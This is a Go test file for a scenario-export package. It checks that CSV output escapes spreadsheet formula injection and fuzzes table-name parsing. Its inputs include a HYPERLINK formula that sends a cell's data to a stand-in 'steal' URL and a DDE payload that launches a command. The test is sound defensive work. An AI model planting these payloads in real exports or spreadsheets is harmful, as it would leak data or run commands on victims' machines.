package export_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/peacekit/peacekit/agreement"
	"github.com/peacekit/peacekit/scenario"
	"github.com/peacekit/peacekit/scenario/export"
)

// hyperlink is a formula a spreadsheet would execute.
const hyperlink = `=HYPERLINK("https://example.org/steal?d="&A1,"Details")`

// TestFormulaInjection replays an agreement whose clause text and party
// names are formulas, with events whose free text (item, outcome) is one
// too, and checks that the text reaches the tables (in the causes in words)
// and that no cell of any table, read back by encoding/csv, begins with a
// character a spreadsheet takes for a formula unless escaped: the clause's
// text, a cell of its own in States and Bound, is written with a quote
// before it. markup.TestCSVCell checks the escaping itself.
func TestFormulaInjection(t *testing.T) {
	a := agreement.Agreement{
		ID: "inject", SigningStatus: agreement.SigningStatusSigned,
		Parties: []agreement.Party{
			{ID: "UA", Name: "=cmd|' /C calc'!A0", Kind: agreement.PartyKindState},
			{ID: "RU", Name: "@SUM(1+1)", Kind: agreement.PartyKindState},
		},
		Clauses: []agreement.Clause{{
			ID: "CF", Text: hyperlink, Kind: agreement.DeonticProhibition,
			Debtors: []agreement.PartyID{"UA", "RU"}, Action: &agreement.Pattern{Kind: "armed-attack"},
			Standing: true,
		}},
	}
	e, err := scenario.Compile(a)
	if err != nil {
		t.Fatal(err)
	}
	start := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	tl := scenario.NewTimeline(start,
		agreement.Event{At: start.Add(time.Hour), Kind: "armed-attack", Actor: "RU", Target: "UA", Item: hyperlink},
		agreement.Event{At: start.Add(2 * time.Hour), Kind: "armed-attack", Actor: "UA", Target: "RU", Item: "-1+2", Outcome: hyperlink},
	)
	tr, err := e.Replay(tl, start.Add(24*time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	var all bytes.Buffer
	for _, table := range export.Tables() {
		if err := export.WriteCSV(&all, tr, table); err != nil {
			t.Fatal(err)
		}
	}
	if !strings.Contains(all.String(), "=HYPERLINK(") {
		t.Errorf("the event's item is in no table:\n%s", all.String())
	}
	escaped := 0
	for _, table := range []export.Table{export.States, export.Bound} {
		var b bytes.Buffer
		if err := export.WriteCSV(&b, tr, table); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs[1:] {
			if r[1] == "CF" {
				if r[4] != "'"+hyperlink {
					t.Errorf("%s: text cell %q, want the clause's text escaped", table, r[4])
				}
				escaped++
			}
		}
	}
	if escaped == 0 {
		t.Error("the clause's text is in no row of States or Bound")
	}
	for _, table := range export.Tables() {
		t.Run(table.String(), func(t *testing.T) {
			var b bytes.Buffer
			if err := export.WriteCSV(&b, tr, table); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range recs {
				for _, c := range r {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("cell %q would run as a formula", c)
					}
				}
			}
		})
	}
}

func FuzzParseTable(f *testing.F) {
	for _, table := range export.Tables() {
		f.Add(table.String())
	}
	f.Add("transition")
	f.Add("")
	f.Fuzz(func(t *testing.T, s string) {
		table, err := export.ParseTable(s)
		if err != nil {
			if !strings.Contains(err.Error(), "allowed: ") {
				t.Errorf("ParseTable(%q): %v lists no allowed name", s, err)
			}
			return
		}
		if table.String() != s {
			t.Errorf("ParseTable(%q) = %v, which is written %q", s, table, table.String())
		}
	})
}
